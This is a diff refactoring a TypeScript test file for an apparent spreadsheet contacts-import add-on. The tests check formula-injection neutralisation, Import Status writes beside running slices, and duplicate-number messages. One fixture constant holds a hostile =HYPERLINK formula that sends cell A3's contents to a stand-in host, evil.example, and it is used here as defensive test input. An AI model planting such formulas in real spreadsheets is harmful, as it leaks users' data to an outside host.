@@ -4,7 +4,16 @@
  * an Import Status a slice wrote meanwhile, and onEdit keeps duplicate messages right as
  * identifiers change.
  */
-import { column, importAll, setUp, startAddon, type Addon } from '../support/addon-harness';
+import {
+  column,
+  importAll,
+  setUp,
+  startAddon,
+  withAddon,
+  type Addon,
+} from '../support/addon-harness';
+import { contactsTab, editCells } from '../support/contacts-tab';
+import { formulaHeaderRow, setUpFormulaHeaderTab } from '../support/formula-header';
 
 /** A header a hostile sheet might carry; the Error column quotes it. */
 const EVIL = '=HYPERLINK("http://evil.example/?q="&A3,"x")';
@@ -12,24 +21,12 @@ const ROWS = 40;
 
 function hostileSheet(): unknown[][] {
   // The header cell holds the formula-looking text as text (typed with an apostrophe).
-  const out: unknown[][] = [['First Name', 'Mobile', `'${EVIL}`]];
+  const out: unknown[][] = [formulaHeaderRow(EVIL)];
   for (let i = 0; i < ROWS; i++) {
     // Every third row has a broken email: its Error cell starts with the header, "=HYPERLINK…".
     out.push([`Name${i}`, `+6013${2_000_000 + i}`, i % 3 === 1 ? `bad${i}` : `p${i}@example.com`]);
   }
   return out;
-}
-
-function invokeEdit(addon: Addon, row: number, col: number, value: string | string[]): void {
-  const tab = addon.fakes.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Contacts')!;
-  const column = Array.isArray(value) ? value.map((v) => [v]) : [[value]];
-  const range = () => tab.getRange(row, col, column.length, 1);
-  addon.fakes.spreadsheet.edit(() => range().setValues(column));
-  addon.bundle.invoke('onEdit', {
-    range: range(),
-    value: Array.isArray(value) ? undefined : value,
-    authMode: addon.fakes.globals.ScriptApp.AuthMode.LIMITED,
-  });
 }
 
 /** Every owned cell that is a formula, and every Error cell quoting the header. */
@@ -50,24 +47,8 @@ describe('formula-looking text in owned cells', () => {
   let addon: Addon;
   beforeAll(async () => {
     // A slow workspace: the rows go over many slices, so flushes land between earlier ones.
-    addon = await startAddon({ Sheet1: [] }, ['--seed', 'empty', '--rate', '20']);
-    addon.fakes.spreadsheet.seedSheet('Contacts', hostileSheet(), { typed: true });
-    addon.fakes.uncounted(() =>
-      addon.fakes.globals.PropertiesService.getScriptProperties().setProperty(
-        'contactImport.sliceMs',
-        '150',
-      ),
-    );
-    setUp(addon, {
-      purpose: 'add-update',
-      identifier: 'phone',
-      importTag: null,
-      mapping: [
-        { column: 0, header: 'First Name', field: 'firstName', match: 'manual', confidence: 1 },
-        { column: 1, header: 'Mobile', field: 'phone', match: 'manual', confidence: 1 },
-        { column: 2, header: EVIL, field: 'email', match: 'manual', confidence: 1 },
-      ],
-    });
+    addon = await startAddon({ Sheet1: [] }, ['--seed', 'empty', '--rate', '20'], { sliceMs: 150 });
+    setUpFormulaHeaderTab(addon, EVIL, hostileSheet().slice(1));
   }, 60_000);
   afterAll(() => addon.stop());
 
@@ -83,8 +64,8 @@ describe('formula-looking text in owned cells', () => {
 
     // Edits after the import: a name on a flagged row, then a paste over rows 5–7 that breaks
     // the emails of rows 5 and 7 around row 6's, which stays as broken as it was.
-    invokeEdit(addon, 3, 1, 'Renamed');
-    invokeEdit(addon, 5, 3, ['broken-now', 'bad4', 'broken-too']);
+    editCells(addon, 3, 1, 'Renamed');
+    editCells(addon, 5, 3, ['broken-now', 'bad4', 'broken-too']);
     const after = ownedCells(addon);
     expect(after.formulas).toEqual([]);
     expect(after.quoting).toBe(15);
@@ -96,13 +77,11 @@ describe('formula-looking text in owned cells', () => {
 
 describe('writes beside a running slice', () => {
   test('an onEdit that read before a slice wrote never reverts its Import Status', async () => {
-    const addon = await startAddon({ Sheet1: [] }, ['--seed', 'empty']);
-    try {
+    await withAddon({ Sheet1: [] }, ['--seed', 'empty'], (addon) => {
       addon.fakes.spreadsheet.seedSheet('Contacts', hostileSheet().slice(0, 8), { typed: true });
       setUp(addon, { purpose: 'add-update', identifier: 'phone', importTag: null });
       addon.call('reviewSheet');
-      const tab =
-        addon.fakes.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Contacts')!;
+      const tab = contactsTab(addon);
       const header = addon.fakes.spreadsheet.sheetState('Contacts').values[0]!;
       const at = (h: string) => header.indexOf(h) + 1;
 
@@ -121,7 +100,7 @@ describe('writes beside a running slice', () => {
         });
       };
       try {
-        invokeEdit(addon, 3, 1, ''); // row 3's first name emptied: its Error changes
+        editCells(addon, 3, 1, ''); // row 3's first name emptied: its Error changes
       } finally {
         calls.record = record;
       }
@@ -130,46 +109,41 @@ describe('writes beside a running slice', () => {
       expect(s.values[2]![at('Import Status') - 1]).toBe('Imported');
       expect(s.values[2]![at('Contact ID') - 1]).toBe(4242);
       expect(s.values[2]![at('Import Fingerprint') - 1]).toBe('f00d@r1');
-    } finally {
-      await addon.stop();
-    }
+    });
   }, 60_000);
 });
 
 describe('duplicates as identifiers change (onEdit)', () => {
   test('appear, move and disappear with the edited identifier', async () => {
-    const addon = await startAddon({ Sheet1: [] }, ['--seed', 'empty']);
-    try {
+    await withAddon({ Sheet1: [] }, ['--seed', 'empty'], (addon) => {
       addon.fakes.spreadsheet.seedSheet('Contacts', hostileSheet().slice(0, 12), { typed: true });
       setUp(addon, { purpose: 'add-update', identifier: 'phone', importTag: null });
       const errors = () => column(addon, 'Error').map((e) => String(e));
       const mobile = (i: number) => `+6013${2_000_000 + i}`;
-      invokeEdit(addon, 2, 3, 'p0@example.com'); // not reviewed yet: nothing happens
+      editCells(addon, 2, 3, 'p0@example.com'); // not reviewed yet: nothing happens
       addon.call('reviewSheet');
       const clean = (rows: number[]) =>
         rows.forEach((row) => expect(errors()[row - 2]).not.toMatch(/same number/));
 
-      invokeEdit(addon, 9, 2, mobile(2)); // row 9 takes row 4's number
+      editCells(addon, 9, 2, mobile(2)); // row 9 takes row 4's number
       expect(errors()[9 - 2]).toMatch(/^Mobile: same number as row 4 — keep one/);
       expect(errors()[4 - 2]).toMatch(/^Mobile: same number as row 9 — keep one/);
 
-      invokeEdit(addon, 11, 2, mobile(2)); // a third copy: all three name the others
+      editCells(addon, 11, 2, mobile(2)); // a third copy: all three name the others
       expect(errors()[4 - 2]).toMatch(/same number as rows 9, 11/);
       expect(errors()[9 - 2]).toMatch(/same number as rows 4, 11/);
       expect(errors()[11 - 2]).toMatch(/same number as rows 4, 9/);
 
-      invokeEdit(addon, 9, 2, mobile(7)); // row 9 back to its own: the other two remain
+      editCells(addon, 9, 2, mobile(7)); // row 9 back to its own: the other two remain
       clean([9]);
       expect(errors()[4 - 2]).toMatch(/same number as row 11 — keep one/);
       expect(errors()[11 - 2]).toMatch(/same number as row 4 — keep one/);
 
-      invokeEdit(addon, 3, 1, 'Someone'); // a name elsewhere: the pair stays flagged
+      editCells(addon, 3, 1, 'Someone'); // a name elsewhere: the pair stays flagged
       expect(errors()[4 - 2]).toMatch(/same number as row 11/);
 
-      invokeEdit(addon, 11, 2, mobile(9)); // the last copy goes: nobody is flagged
+      editCells(addon, 11, 2, mobile(9)); // the last copy goes: nobody is flagged
       clean([4, 9, 11]);
-    } finally {
-      await addon.stop();
-    }
+    });
   }, 60_000);
 });
